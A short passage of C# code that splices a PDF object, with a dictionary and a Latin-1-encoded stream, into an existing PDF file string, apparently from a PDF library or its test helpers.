            $"{file[..at]}8 0 obj\n{dictionary}stream\n{Encoding.Latin1.GetString(content)}\nendstream\nendobj\n{more}{file[at..]}"
        );
    }
}
